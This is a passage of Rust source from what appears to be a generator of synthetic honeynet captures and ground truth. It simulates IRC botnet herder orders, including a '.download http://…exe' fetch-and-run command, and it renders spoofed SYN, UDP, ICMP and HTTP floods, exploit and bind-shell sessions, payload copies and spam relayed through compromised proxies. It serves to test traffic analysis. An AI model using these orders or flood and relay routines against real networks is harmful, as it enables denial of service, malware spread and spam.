                if self.rng.random_bool(0.5) || ddos_given < 7 {
                    let kind_i = if ddos_given < 7 {
                        ddos_given
                    } else {
                        pick(&mut self.rng, &FLOOD_WEIGHTS)
                    };
                    ddos_given += 1;
                    let target = public_ip(&mut self.rng);
                    let kind = FLOOD_KINDS[kind_i];
                    let (port, secs) = match kind {
                        "ddos.phaticmp" => (0u16, self.rng.random_range(60..300)),
                        "ddos.httpflood" => (80, self.rng.random_range(60..180)),
                        _ => (
                            [6667u16, 6667, 7000, 5562][self.rng.random_range(0..4)],
                            self.rng.random_range(60..600),
                        ),
                    };
                    let delay = self.flood_delay_ms();
                    order_list.push((ot, flood_order(kind, target, port, secs, delay), "privmsg"));
                    ot += secs as i64 * 1_000_000 + 30_000_000;
                    order_list.push((ot, ".ddos.stop".into(), "privmsg"));
                    ot += 20_000_000;
                }
                if self.rng.random_bool(0.3) {
                    let web = public_ip(&mut self.rng);
                    let f = word(&mut self.rng, 5);
                    order_list.push((
                        ot,
                        format!(".download http://{web}/{f}.exe c:\\{f}.exe 1"),
                        "privmsg",
                    ));
                    ot += 60_000_000;
                }
                if (redirect_given < 2 || self.rng.random_bool(0.25)) && si + 1 < joins.len().max(2)
                {
                    redirect_given += 1;
                    let mut w: Vec<f64> = SPAM_PORTS.iter().map(|p| p.1).collect();
                    w[6] = 1.0;
                    let pi = pick(&mut self.rng, &w);
                    let port = if SPAM_PORTS[pi].0 == 0 {
                        free_port(&mut self.rng, 2000, 60000)
                    } else {
                        SPAM_PORTS[pi].0
                    };
                    let kind = self.rng.random_range(0..3);
                    let txt = match kind {
                        0 => format!(".redirect.socks {port}"),
                        1 => format!(".redirect.http {port}"),
                        _ => format!(".redirect.tcp {port} {} 25", public_ip(&mut self.rng)),
                    };
                    order_list.push((ot, txt, "privmsg"));
                    ot += 60_000_000;
                }
                if self.rng.random_bool(0.3) {
                    let s = SCAN_ORDERS[self.rng.random_range(0..SCAN_ORDERS.len())].to_string();
                    order_list.push((ot, s, "privmsg"));
                }
                let mut last_t = join_t;
                for (t, raw, via) in order_list {
                    if t >= end - 10_000_000 && via != "topic" {
                        continue;
                    }
                    let oid = self.t.orders.len() as u32;
                    let (command, args) = parse_order(&raw);
                    let reply = self.execute_order(oid, bot, t, &command, &args, end);
                    if via == "privmsg" {
                        lines.push(IrcLine {
                            t,
                            from_server: true,
                            text: format!(
                                ":{herder}!~{herder}@{} PRIVMSG {} :{raw}\r\n",
                                srv_ip, cfgb.channel
                            ),
                        });
                        privmsgs += 1;
                    }
                    if let Some(r) = &reply {
                        lines.push(IrcLine {
                            t: t + 1_500_000,
                            from_server: false,
                            text: format!("PRIVMSG {} :{r}\r\n", cfgb.channel),
                        });
                        privmsgs += 1;
                    }
                    if via == "topic" && si == 0 {
                        seq.push(("irc_join".into(), Ts(t)));
                    }
                    if command == "update" && seq.iter().all(|s| s.0 != "update") {
                        seq.push(("update".into(), Ts(t)));
                    }
                    self.t.orders.push(OrderTruth {
                        id: oid,
                        session: sid,
                        bot,
                        ts: Ts(t),
                        via: via.into(),
                        raw,
                        command,
                        args,
                        reply,
                    });
                    last_t = last_t.max(t);
                }
                // Keep-alive PINGs every 5 minutes.
                let mut pt = join_t + 300_000_000;
                while pt < end - 5_000_000 {
                    lines.push(IrcLine {
                        t: pt,
                        from_server: true,
                        text: format!("PING :{srv_name}\r\n"),
                    });
                    lines.push(IrcLine {
                        t: pt + 300_000,
                        from_server: false,
                        text: format!("PONG :{srv_name}\r\n"),
                    });
                    pt += 300_000_000;
                }
                lines.sort_by_key(|l| l.t);
                let cport = free_port(&mut self.rng, 1025, 5000);
                self.t.irc_sessions.push(IrcSessionTruth {
                    id: sid,
                    bot,
                    server: srv_ip,
                    port: server.port,
                    fqdn: server.host.clone(),
                    nick: nick.clone(),
                    channel: cfgb.channel.clone(),
                    key: cfgb.key.clone(),
                    connect: Ts(connect),
                    join: Ts(join_t),
                    end: Ts(end.max(last_t + 3_000_000)),
                    flow: flow(bot, cport, srv_ip, server.port, Proto::Tcp),
                    privmsg_lines: privmsgs,
                    // Issue 15, class 7: servers at an odd address speak
                    // IRCv3 message tags (no draw from the stream).
                    tags: srv_ip.octets()[3] % 2 == 1,
                });
                self.irc_lines.push(lines);
                self.irc_topic.push(topic);
                self.jobs
                    .push((connect, Cap::Infected, Job::Irc { idx: sid }));
            }
            let _ = herder;
            self.t.bots.push(BotTruth {
                ip: bot,
                specimen,
                sequence: seq,
            });
        }
    }

    /// Plans what an order makes the bot do; returns the bot's reply.
    fn execute_order(
        &mut self,
        oid: u32,
        bot: Ipv4Addr,
        t: i64,
        command: &str,
        args: &[String],
        session_end: i64,
    ) -> Option<String> {
        let o = bot.octets();
        match command {
            "advscan" | "ntscan" | "ipscan" => {
                let (scanner, port) = match command {
                    "ntscan" => ("netbios".to_string(), 445u16),
                    "ipscan" => (args.get(1).cloned().unwrap_or_default(), 135),
                    _ => {
                        let s = args.first().cloned().unwrap_or_default();
                        let p = if s.contains("lsass") { 445 } else { 135 };
                        (s, p)
                    }
                };
                let range = if args.iter().any(|a| a == "-a") {
                    format!("{}.0.0.0/8", o[0])
                } else if args.iter().any(|a| a == "-b") || command == "ipscan" {
                    format!("{}.{}.0.0/16", o[0], o[1])
                } else {
                    format!("{}.{}.{}.0/24", o[0], o[1], o[2])
                };
                let count = self.rng.random_range(80..300u32);
                let st = t + 2_000_000;
                let step = 250_000;
                let idx = self.t.scans.len() as u32;
                self.t.scans.push(ScanTruth {
                    order: Some(oid),
                    source: bot,
                    range: range.clone(),
                    port,
                    start: Ts(st),
                    end: Ts(st + (count as i64 - 1) * step),
                    count,
                });
                self.jobs.push((st, Cap::Infected, Job::Scan { idx }));
                Some(format!(
                    "[SCAN]: Random Port Scan started on {range}:{port} using {scanner}."
                ))
            }
            c if c.starts_with("ddos.") && c != "ddos.stop" => {
                let a = parse_flood_args(c, args)?;
                // Orders without a port (targa3) leave it to the bot.
                let port = match a.port {
                    Some(p) => p,
                    None if c == "ddos.targa3" => {
                        [6667u16, 6667, 7000, 5562][self.rng.random_range(0..4)]
                    }
                    None => 0,
                };
                let (target, secs) = (a.target, a.secs as i64);
                let st = t + 2_000_000;
                // Phatbot's SYN variants forge their sources: every other
                // SYN-type flood of the field does (no draw from the seed's
                // stream, so the rest of the field is unchanged).
                let spoofed = matches!(c, "ddos.synflood" | "ddos.phatsyn" | "ddos.phatwolk")
                    && self.t.floods.len().is_multiple_of(2);
                let mac = crate::pcap::host_mac(bot);
                self.t.floods.push(FloodTruth {
                    spoofed,
                    sources: 1,
                    sender_mac: Some(format!(
                        "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
                        mac[0], mac[1], mac[2], mac[3], mac[4], mac[5]
                    )),
                    order: oid,
                    kind: c.to_string(),
                    source: bot,
                    target,
                    port,
                    order_port: a.port,
                    duration_s: a.secs,
                    delay_ms: a.delay_ms,
                    start: Ts(st),
                    end: Ts(st + secs * 1_000_000),
                    packets: 0,
                });
                let idx = self.t.floods.len() as u32 - 1;
                self.jobs.push((st, Cap::Infected, Job::Flood { idx }));
                Some(format!(
                    "[DDoS]: Flooding: ({target}:{port}) for {secs} seconds."
                ))
            }
            "ddos.stop" => Some("[DDoS]: Stopped flooding.".into()),
            "update" | "download" => {
                let url = args.first().cloned()?;
                let rest = url.strip_prefix("http://")?;
                let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
                let server: Ipv4Addr = host.parse().ok()?;
                let success = self.rng.random_bool(0.85);
                let refused = !success && self.rng.random_bool(0.5);
                let n_spec = self.n(10.0).clamp(4, 400) as u32;
                let spec = if success {
                    Some(self.rng.random_range(0..n_spec))
                } else {
                    None
                };
                let st = t + 3_000_000;
                let sha = spec.map(|s| self.specs[s as usize].truth.sha256.clone());
                let idx = self.t.updates.len() as u32;
                self.t.updates.push(UpdateTruth {
                    order: oid,
                    bot,
                    url: url.clone(),
                    kind: command.into(),
                    ts: Ts(st),
                    success,
                    sha256: sha,
                });
                self.http.push((server, format!("/{path}"), spec, refused));
                self.jobs.push((st, Cap::Infected, Job::Http { idx }));
                Some(if command == "update" {
                    format!("[UPDATE]: Downloading update from: {url}.")
                } else {
                    format!(
                        "[DOWNLOAD]: Downloading URL: {url} to: {}.",
                        args.get(1).cloned().unwrap_or_default()
                    )
                })
            }
            "redirect.socks" | "redirect.http" | "redirect.tcp" => {
                let port: u16 = args.first().and_then(|a| a.parse().ok())?;
                let fixed_mx: Option<Ipv4Addr> = args.get(1).and_then(|a| a.parse().ok());
                let n_src = self.rng.random_range(2..=5);
                let window_end = self.end_us() - 120_000_000;
                let _ = session_end;
                let st = t + 60_000_000;
                if window_end <= st {
                    return None;
                }
                for _ in 0..if self.cfg.spam { n_src } else { 0 } {
                    let spammer = public_ip(&mut self.rng);
                    let protocol = match command {
                        "redirect.socks" => {
                            if self.rng.random_bool(0.5) {
                                "socks4"
                            } else {
                                "socks5"
                            }
                        }
                        "redirect.http" => "http_connect",
                        _ => "redirect",
                    };
                    // Fig. 5: 73 % of sources send ≤ 100 requests.
                    let count: u32 = if self.rng.random_bool(0.73) {
                        self.rng.random_range(1..=100)
                    } else {
                        self.rng.random_range(101..=600)
                    };
                    let mut times: Vec<i64> = (0..count)
                        .map(|_| self.rng.random_range(st..window_end))
                        .collect();
                    times.sort();
                    let mx = fixed_mx.unwrap_or_else(|| public_ip(&mut self.rng));
                    let rid = self.t.spam_relays.len() as u32;
                    self.t.spam_relays.push(SpamRelayTruth {
                        order: oid,
                        bot,
                        port,
                        protocol: protocol.into(),
                        spammer,
                        mail_server: mx,
                        count,
                        first: Ts(times[0]),
                        last: Ts(*times.last().unwrap_or(&st)),
                    });
                    for (n, tt) in times.iter().enumerate() {
                        self.jobs.push((
                            *tt,
                            Cap::Infected,
                            Job::Spam {
                                relay: rid,
                                n: n as u32,
                                t: *tt,
                            },
                        ));
                    }
                    self.spam_times.push(times);
                }
                Some(match command {
                    "redirect.socks" => format!("[SOCKS4]: Server started on: {bot}:{port}."),
                    "redirect.http" => format!("[HTTPD]: Proxy started on: {bot}:{port}."),
                    _ => format!(
                        "[REDIRECT]: TCP redirect created from: {bot}:{port} to: {}:25.",
                        args.get(1).cloned().unwrap_or_default()
                    ),
                })
            }
            _ => None,
        }
    }

    /// Draws what the background writer needs from the scenario stream.
    /// Captures of the field from elsewhere than the honeypot net's
    /// capture set (`vantage/`; issue 15): the infected honeypots' capture
    /// as taken on their VM host's bridge, where the honeypots' virtual
    /// NICs leave TX checksums to offload, and the herder's client.
    fn other_vantage_points(&mut self, out: &Path) -> io::Result<()> {
        std::fs::create_dir_all(out.join("vantage"))?;
        let src = "pcap/infected.pcap";
        let dst = "vantage/infected-hostside.pcap";
        let senders = self.t.sensors.iter().map(|s| crate::pcap::host_mac(*s));
        let n = crate::pcap::copy_with_offload(&out.join(src), &out.join(dst), &senders.collect())?;
        let bytes = std::fs::metadata(out.join(dst))?.len();
        self.t.files.push(FileTruth {
            path: dst.into(),
            kind: "pcap: infected honeypots taken on their VM host (TX checksum offload)".into(),
            packets: n.packets,
            bytes,
        });
        self.t.offload = Some(OffloadTruth {
            file: dst.into(),
            copy_of: src.into(),
            packets: n.packets,
            bad_checksums: n.bad,
            sample: n.sample,
            bad_in_sample: n.bad_in_sample,
        });
        let Some(session) = self.t.irc_sessions.first().cloned() else {
            return Ok(());
        };
        let herder = self
            .herder
            .get(&session.fqdn)
            .cloned()
            .unwrap_or_else(|| "herder".into());
        let scan = SCAN_ORDERS[(self.cfg.seed % SCAN_ORDERS.len() as u64) as usize];
        let (file, h) = crate::herder::render_herder(self.cfg.seed, &session, &herder, scan, out)?;
        self.t.files.push(file);
        self.t.herder_sessions.push(h);
        Ok(())
    }

    fn plan_background(&mut self) -> BackgroundPlan {
        let sources: Vec<Ipv4Addr> = (0..2000).map(|_| public_ip(&mut self.rng)).collect();
        BackgroundPlan {
            sources,
            seed: self.rng.random(),
        }
    }

    fn maybe_gre(&self, f: &mut PcapFile) {
        maybe_gre(self.cfg.gre, &self.t.sensors, f);
    }

    fn render_jobs(&mut self, out: &Path, seed: u64) -> io::Result<()> {
        let rel_e = "pcap/honeynet-exploits.pcap";
        let rel_i = "pcap/infected.pcap";
        let mut fe = PcapFile::create(&out.join(rel_e))?;
        let mut fi = PcapFile::create(&out.join(rel_i))?;
        self.maybe_gre(&mut fe);
        self.maybe_gre(&mut fi);
        // The infected honeypots' frames carry their own Ethernet address
        // (a spoofed flood is attributed to its sender by it).
        fi.set_host_macs(&self.t.sensors);
        let mut jobs = std::mem::take(&mut self.jobs);
        jobs.sort_by_key(|j| j.0);
        let mut r = ChaCha8Rng::seed_from_u64(seed);
        for (t, cap, job) in &jobs {
            let f = match cap {
                Cap::Exploits => &mut fe,
                Cap::Infected => &mut fi,
            };
            f.advance(*t)?;
            match job {
                Job::Exploit { idx } => self.render_exploit(f, *idx, &mut r),
                Job::Copy { idx } => self.render_copy(f, *idx, &mut r),
                Job::Scan { idx } => self.render_scan(f, *idx, &mut r),
                Job::Dns { idx } => self.render_dns(f, *idx, &mut r),
                Job::Irc { idx } => self.render_irc(f, *idx),
                Job::Http { idx } => self.render_http(f, *idx, &mut r),
                Job::Flood { idx } => self.render_flood(f, *idx, &mut r),
                Job::Spam { relay, n, t } => self.render_spam(f, *relay, *n, *t, &mut r),
            }
        }
        for (rel, f, kind) in [
            (rel_e, fe, "pcap: honeypot-net exploits and copies"),
            (rel_i, fi, "pcap: infected honeypots (Fig. 3)"),
        ] {
            let (packets, bytes) = f.finish()?;
            self.t.files.push(FileTruth {
                path: rel.into(),
                kind: kind.into(),
                packets,
                bytes,
            });
        }
        Ok(())
    }

    fn render_exploit(&mut self, f: &mut PcapFile, idx: u32, r: &mut ChaCha8Rng) {
        let e = &self.t.exploits[idx as usize];
        let instr = e.instruction.as_deref().unwrap_or_default();
        let cid: [u8; 16] = r.random();
        let fill = r.random_range(900..1400);
        let isn: u32 = r.random();
        // Ids a Windows host hands out: the share and IPC$ trees differ.
        let ids = SmbIds {
            pid: r.random_range(100..4000),
            uid: 2048,
            share_tid: 2049,
            tid: 2050,
            fid: 0x4000 + r.random_range(0..0x100),
            challenge: r.random(),
        };
        let script = client_script(
            e.vector,
            &e.attacker.to_string(),
            &e.victim.to_string(),
            e.credentials
                .as_ref()
                .map(|(a, p)| (a.as_str(), p.as_str())),
            e.share.as_deref(),
            instr,
            fill,
            cid,
            ids,
        );
        if script.udp {
            let ip = Ip4 {
                src: e.attacker,
                dst: e.victim,
                ttl: 110,
            };
            f.udp(e.ts.0, ip, e.flow.orig_p, script.port, &script.messages[0]);
            return;
        }
        let mut c = Tcp::new(e.attacker, e.flow.orig_p, e.victim, e.ports[0], e.ts.0, isn);
        c.handshake(f);
        for (msg, reply) in script.messages.iter().zip(&script.replies) {
            c.c_send(f, msg);
            if let Some(reply) = reply {
                c.s_send(f, reply);
            }
        }
        // The scheduled job is accepted and the session closed; every
        // overflow kills the service, which resets the connection.
        if e.vector == Vector::ShareAccess {
            c.close(f, true);
        } else {
            c.server_reset(f);
        }
    }

    fn render_copy(&mut self, f: &mut PcapFile, idx: u32, r: &mut ChaCha8Rng) {
        let cp = self.t.copies[idx as usize].clone();
        let e = &self.t.exploits[cp.exploit as usize];
        let (attacker, victim) = (e.attacker, e.victim);
        let bytes = self.specs[cp.specimen as usize].bytes.clone();
        let t0 = cp.ts.0;
        // The bind shell the fetch is typed into: open until after it.
        let shell = cp.shell.as_ref().map(|sh| {
            let mut c = Tcp::new(
                attacker,
                sh.flow.orig_p,
                victim,
                sh.flow.resp_p,
                sh.ts.0,
                r.random(),
            );
            c.handshake(f);
            c.s_send(f, SHELL_BANNER);
            let typed_at = c.t;
            c.c_send(f, format!("{}\r\n", sh.typed).as_bytes());
            (c, typed_at)
        });
        if let (Some((_, at)), Some(s)) = (&shell, self.t.copies[idx as usize].shell.as_mut()) {
            // The typed line's packet time (what a reader reports).
            s.ts = Ts(*at);
        }
        let t_end = match cp.method {
            CopyMethod::TftpGet => {
                let cport = cp.flow.orig_p;
                let vip = Ip4 {
                    src: victim,
                    dst: attacker,
                    ttl: 128,
                };
                let aip = Ip4 {
                    src: attacker,
                    dst: victim,
                    ttl: 110,
                };
                f.udp(t0, vip, cport, 69, &proto::tftp_rrq(&cp.filename));
                let tid = free_port(r, 1025, 5000);
                let mut t = t0 + 40_000;
                let blocks: Vec<&[u8]> = bytes.chunks(512).collect();
                let n_blocks = if bytes.len().is_multiple_of(512) {
                    blocks.len() + 1
                } else {
                    blocks.len()
                };
                let stop = if cp.success {
                    n_blocks
                } else {
                    (n_blocks / 3).max(1)
                };
                for b in 0..stop {
                    let data = blocks.get(b).copied().unwrap_or(&[]);
                    f.udp(t, aip, tid, cport, &proto::tftp_data((b + 1) as u16, data));
                    t += 20_000;
                    f.udp(t, vip, cport, tid, &proto::tftp_ack((b + 1) as u16));
                    t += 2_000;
                }
                if !cp.success {
                    f.udp(
                        t + 10_000,
                        aip,
                        tid,
                        cport,
                        &proto::tftp_error(0, "transfer aborted"),
                    );
                }
                t + 10_000
            }
            // An FTP fetch: the victim logs into the infecting host's FTP
            // server and RETRs the file over a passive data connection it
            // opens, or an active one the server opens from port 20.
            CopyMethod::ReverseConnect if cp.via == "ftp" => {
                render_ftp_fetch(f, &cp, &bytes, (victim, attacker), r)
            }
            CopyMethod::TcpPush | CopyMethod::ReverseConnect => {
                let push = cp.method == CopyMethod::TcpPush;
                let (c_ip, s_ip) = if push {
                    (attacker, victim)
                } else {
                    (victim, attacker)
                };
                let mut c = Tcp::new(c_ip, cp.flow.orig_p, s_ip, cp.flow.resp_p, t0, r.random());
                c.handshake(f);
                let body = if cp.success {
                    &bytes[..]
                } else {
                    &bytes[..bytes.len() / 3]
                };
                if push {
                    c.c_send(f, body);
                    c.close(f, true);
                } else {
                    c.s_send(f, body);
                    c.close(f, false);
                }
                c.t
            }
        };
        if let Some((mut c, _)) = shell {
            c.t = c.t.max(t_end + 100_000);
            c.close(f, true);
        }
    }

    fn render_scan(&mut self, f: &mut PcapFile, idx: u32, r: &mut ChaCha8Rng) {
        let s = self.t.scans[idx as usize].clone();
        let (net, bits) = s.range.split_once('/').unwrap_or(("0.0.0.0", "24"));
        let base = u32::from(net.parse::<Ipv4Addr>().unwrap_or(Ipv4Addr::UNSPECIFIED));
        let host_bits = 32 - bits.parse::<u32>().unwrap_or(24).min(32);
        let step = if s.count > 1 {
            (s.end.0 - s.start.0) / (s.count as i64 - 1)
        } else {
            0
        };
        for i in 0..s.count {
            let off = r.random_range(1..(1u32 << host_bits) - 1);
            let dst = Ipv4Addr::from(base | off);
            let mut c = Tcp::new(
                s.source,
                free_port(r, 1025, 5000),
                dst,
                s.port,
                s.start.0 + i as i64 * step,
                r.random(),
            );
            c.syn_only(f, flags::SYN);
        }
    }

    fn render_dns(&mut self, f: &mut PcapFile, idx: u32, r: &mut ChaCha8Rng) {
        let d = self.t.dns_lookups[idx as usize].clone();
        let id: u16 = r.random();
        let port = free_port(r, 1025, 5000);
        f.udp(
            d.ts.0,
            Ip4 {
                src: d.client,
                dst: d.resolver,
                ttl: 128,
            },
            port,
            53,
            &proto::dns_query(id, &d.qname),
        );
        f.udp(
            d.ts.0 + 35_000,
            Ip4 {
                src: d.resolver,
                dst: d.client,
                ttl: 63,
            },
            53,
            port,
            &proto::dns_response(id, &d.qname, &d.answers, 300),
        );
    }

    fn render_irc(&mut self, f: &mut PcapFile, idx: u32) {
        let s = self.t.irc_sessions[idx as usize].clone();
        let lines = std::mem::take(&mut self.irc_lines[idx as usize]);
        let topic = self.irc_topic[idx as usize].clone();
        let srv = format!("irc.{}", s.fqdn);
        let herder = self
            .herder
            .get(&s.fqdn)
            .cloned()
            .unwrap_or_else(|| "herder".into());
        let mut c = Tcp::new(
            s.bot,
            s.flow.orig_p,
            s.server,
            s.port,
            s.connect.0,
            idx.wrapping_mul(2654435761),
        );
        c.handshake(f);
        // Server lines, with IRCv3 message tags when the server uses them.
        let mut tagged = 0u32;
        let mut server_says = |c: &mut Tcp, f: &mut PcapFile, text: &str| {
            if s.tags {
                let t = proto::ircv3_tagged(text, c.t, idx, &mut tagged);
                c.s_send(f, t.as_bytes());
            } else {
                c.s_send(f, text.as_bytes());
            }
        };
        server_says(
            &mut c,
            f,
            &format!(":{srv} NOTICE AUTH :*** Looking up your hostname...\r\n"),
        );
        c.c_send(
            f,
            format!("NICK {}\r\nUSER {} 0 0 :{}\r\n", s.nick, s.nick, s.nick).as_bytes(),
        );
        let n = &s.nick;
        server_says(
            &mut c,
            f,
            &format!(
                ":{srv} 001 {n} :Welcome to the Internet Relay Network {n}\r\n:{srv} 002 {n} :Your host is {srv}, running version Unreal3.2\r\n:{srv} 376 {n} :End of /MOTD command.\r\n"
            ),
        );
        c.t = c.t.max(s.join.0 - 300_000);
        let join = match &s.key {
            Some(k) => format!("JOIN {} {}\r\n", s.channel, k),
            None => format!("JOIN {}\r\n", s.channel),
        };
        c.c_send(f, join.as_bytes());
        let ch = &s.channel;
        server_says(
            &mut c,
            f,
            &format!(
                ":{n}!{n}@{} JOIN :{ch}\r\n:{srv} 332 {n} {ch} :{topic}\r\n:{srv} 333 {n} {ch} {herder} {}\r\n:{srv} 353 {n} @ {ch} :{n} @{herder}\r\n:{srv} 366 {n} {ch} :End of /NAMES list.\r\n",
                s.bot,
                s.join.secs()
            ),
        );
        for l in &lines {
            c.t = c.t.max(l.t);
            if l.from_server {
                server_says(&mut c, f, &l.text);
            } else {
                c.c_send(f, l.text.as_bytes());
            }
        }
        c.t = c.t.max(s.end.0);
        c.close(f, false);
    }

    fn render_http(&mut self, f: &mut PcapFile, idx: u32, r: &mut ChaCha8Rng) {
        let u = self.t.updates[idx as usize].clone();
        let (server, path, spec, refused) = self.http[idx as usize].clone();
        let mut c = Tcp::new(
            u.bot,
            free_port(r, 1025, 5000),
            server,
            80,
            u.ts.0,
            r.random(),
        );
        if refused {
            c.refused(f);
            return;
        }
        c.handshake(f);
        c.c_send(f, &proto::http_get(&server.to_string(), &path));
        match spec {
            Some(s) => {
                let body = &self.specs[s as usize].bytes;
                let mut resp = proto::http_ok_head(body.len());
                resp.extend_from_slice(body);
                c.s_send(f, &resp);
            }
            None => c.s_send(f, &proto::http_not_found()),
        }
        c.close(f, false);
    }

    fn render_flood(&mut self, f: &mut PcapFile, idx: u32, r: &mut ChaCha8Rng) {
        let fl = self.t.floods[idx as usize].clone();
        let secs = (fl.end.0 - fl.start.0) / 1_000_000;
        let pps = self.cfg.flood_pps.max(1) as i64;
        let n = secs * pps;
        let step = 1_000_000 / pps;
        let mut ip = Ip4 {
            src: fl.source,
            dst: fl.target,
            ttl: 128,
        };
        // Forged sources come from the flood's own stream.
        let mut forged = fl.spoofed.then(|| {
            f.set_sender_mac(Some(crate::pcap::host_mac(fl.source)));
            (
                ChaCha8Rng::seed_from_u64(0x5b00_f10d ^ u64::from(idx) ^ fl.start.0 as u64),
                std::collections::BTreeSet::new(),
            )
        });
        let payload = [b'A'; 512];
        let mut packets = 0u64;
        let mut last = fl.start.0;
        let mut i = 0;
        while i < n {
            let t = fl.start.0 + i * step;
            last = t;
            let sport = free_port(r, 1025, 65000);
            if let Some((fr, seen)) = forged.as_mut() {
                ip.src = public_ip(fr);
                seen.insert(ip.src);
            }
            match fl.kind.as_str() {
                "ddos.phatsyn" => f.tcp(
                    t,
                    ip,
                    sport,
                    fl.port,
                    r.random(),
                    0,
                    flags::SYN | flags::URG,
                    &[],
                ),
                "ddos.phatwolk" => f.tcp(
                    t,
                    ip,
                    sport,
                    fl.port,
                    r.random(),
                    r.random(),
                    flags::SYN | flags::ACK,
                    &[],
                ),
                "ddos.udpflood" => f.udp(t, ip, sport, fl.port.max(1), &payload),
                "ddos.phaticmp" => f.icmp_echo(t, ip, sport, i as u16, &payload[..56]),
                "ddos.targa3" => {
                    f.udp_fragmented(t, ip, sport, fl.port.max(1), &payload[..200]);
                    packets += 1;
                }
                "ddos.httpflood" => {
                    // One GET connection every 10 packet slots.
                    if i % 10 != 0 {
                        i += 1;
                        continue;
                    }
                    let mut c = Tcp::new(fl.source, sport, fl.target, 80, t, r.random());
                    c.delay = 5_000;
                    c.handshake(f);
                    c.c_send(f, &proto::http_get(&fl.target.to_string(), "/"));
                    c.close(f, true);
                    packets += c.packets - 1;
                    last = c.t;
                }
                _ => f.tcp(t, ip, sport, fl.port, r.random(), 0, flags::SYN, &[]),
            }
            packets += 1;
            i += 1;
        }
        let ft = &mut self.t.floods[idx as usize];
        ft.packets = packets;
        ft.end = Ts(last);
        if let Some((_, seen)) = forged {
            f.set_sender_mac(None);
            ft.sources = seen.len() as u64;
        }
    }

    fn render_spam(&mut self, f: &mut PcapFile, relay: u32, n: u32, t: i64, r: &mut ChaCha8Rng) {
        let s = self.t.spam_relays[relay as usize].clone();
        let mut c = Tcp::new(
            s.spammer,
            free_port(r, 1025, 60000),
            s.bot,
            s.port,
            t,
            r.random(),
        );
        c.handshake(f);
        match s.protocol.as_str() {
            "socks4" => {
                c.c_send(f, &proto::socks4_connect(s.mail_server, 25));
                c.s_send(f, &proto::socks4_granted(s.mail_server, 25));
            }
            "socks5" => {
                c.c_send(f, &[5, 1, 0]);
                c.s_send(f, &[5, 0]);
                c.c_send(f, &proto::socks5_connect(s.mail_server, 25));
                c.s_send(f, &proto::socks5_ok(s.bot, 25));
            }
            "http_connect" => {
                c.c_send(
                    f,
                    format!("CONNECT {}:25 HTTP/1.0\r\n\r\n", s.mail_server).as_bytes(),
                );
                c.s_send(f, b"HTTP/1.0 200 Connection established\r\n\r\n");
            }
            _ => {}
        }
        let mut m = Tcp::new(
            s.bot,
            free_port(r, 1025, 5000),
            s.mail_server,
            25,
            c.t,
            r.random(),
        );
        m.handshake(f);
        let rcpt = format!("{}@{}.example.jp", word(r_as(r), 6), word(r_as(r), 5));
        let dialogue: [(bool, String); 12] = [
            (false, format!("220 mx.{} ESMTP\r\n", s.mail_server)),
            (true, "HELO localhost\r\n".to_string()),
            (false, "250 Hello\r\n".to_string()),
            (true, "MAIL FROM:<sales@cheap-meds.example>\r\n".to_string()),
            (false, "250 OK\r\n".to_string()),
            (true, format!("RCPT TO:<{rcpt}>\r\n")),
            (false, "250 OK\r\n".to_string()),
            (true, "DATA\r\n".to_string()),
            (false, "354 End data with <CR><LF>.<CR><LF>\r\n".to_string()),
            (true, format!("Subject: offer {n}\r\nFrom: sales@cheap-meds.example\r\nTo: {rcpt}\r\n\r\nBest prices.\r\n.\r\n")),
            (false, "250 Queued\r\n".to_string()),
            (true, "QUIT\r\n".to_string()),
        ];
        for (from_client, line) in dialogue.iter() {
            c.t = c.t.max(m.t);
            m.t = m.t.max(c.t);
            if *from_client {
                c.c_send(f, line.as_bytes());
                m.t = m.t.max(c.t);
                m.c_send(f, line.as_bytes());
            } else {
                m.s_send(f, line.as_bytes());
                c.t = c.t.max(m.t);
                c.s_send(f, line.as_bytes());
            }
        }
        m.s_send(f, b"221 Bye\r\n");
        c.t = c.t.max(m.t);
        c.s_send(f, b"221 Bye\r\n");
        m.close(f, true);
        c.close(f, true);
    }

    fn resolver_spec(&self, more_cc: &[String]) -> crate::resolver::ResolverSpec {
        use crate::resolver::{Format, ResolverSpec};
        let mut cc_names: Vec<String> = self.cc.keys().cloned().collect();
        cc_names.extend(more_cc.iter().cloned());
        cc_names.sort();
        cc_names.dedup();
        ResolverSpec {
            seed: self.cfg.seed ^ 0x5e50_1fe5,
            clients: ((self.cfg.resolver_clients as f64) * self.cfg.scale)
                .round()
                .max(100.0) as u32,
            infected_fraction: self.cfg.infected_fraction,
            days: self.cfg.days,
            cc_names,
            formats: vec![
                Format::Bind,
                Format::Unbound,
                Format::ZeekTsv,
                Format::Dnstap,
            ],
            start_ts: self.cfg.start_us / 1_000_000,
            resolver: IpAddr::V4(self.resolver_ip),
            ..ResolverSpec::default()
        }
    }

    fn finish_resolver(
        &mut self,
        mut rt: crate::resolver::ResolverTruth,
        out: &Path,
    ) -> io::Result<()> {
        let dir = out.join("resolver");
        // The module records the paths it wrote as given (absolute here);
        // make them relative to OUT so the same seed gives the same bytes
        // wherever OUT is, and rewrite its truth file accordingly.
        for p in rt.files.values_mut() {
            if let Ok(rel) = p.strip_prefix(out) {
                *p = rel.to_path_buf();
            }
        }
        {
            let mut w = io::BufWriter::new(std::fs::File::create(dir.join("resolver-truth.json"))?);
            serde_json::to_writer_pretty(&mut w, &rt).map_err(io::Error::other)?;
            io::Write::write_all(&mut w, b"\n")?;
            io::Write::flush(&mut w)?;
        }
        self.t.tables.deemed_infection_rate = Some(rt.rate);
        for (_, p) in rt.files.iter() {
            let rel = p.clone();
            let bytes = std::fs::metadata(out.join(p)).map(|m| m.len()).unwrap_or(0);
            self.t.files.push(FileTruth {
                path: rel.to_string_lossy().into_owned(),
                kind: "resolver log".into(),
                packets: 0,
                bytes,
            });
        }
        let mut v = serde_json::to_value(&rt).map_err(io::Error::other)?;
        if let Some(files) = v.get_mut("files") {
            // Absolute paths would make the truth depend on OUT.
            if let Some(m) = files.as_object_mut() {
                for (_, p) in m.iter_mut() {
                    if let Some(s) = p.as_str() {
                        let rel = Path::new(s)
                            .strip_prefix(out)
                            .map(|x| x.to_string_lossy().into_owned())
                            .unwrap_or_else(|_| s.to_string());
                        *p = serde_json::Value::String(rel);
                    }
                }
            }
        }
        self.t.resolver = Some(v);
        Ok(())
    }

    fn tables(&mut self) {
        let zone = &self.cfg.zone;
        let t = &mut self.t;
        // Tables 7, 8 and 2 count every attempt on a sensor address, in
        // whichever capture it lies: the exploits that infected the
        // high-interaction honeypots (infected.pcap) are attempts on the
        // honeypot net too.
        let mut t7: BTreeMap<String, u64> = BTreeMap::new();
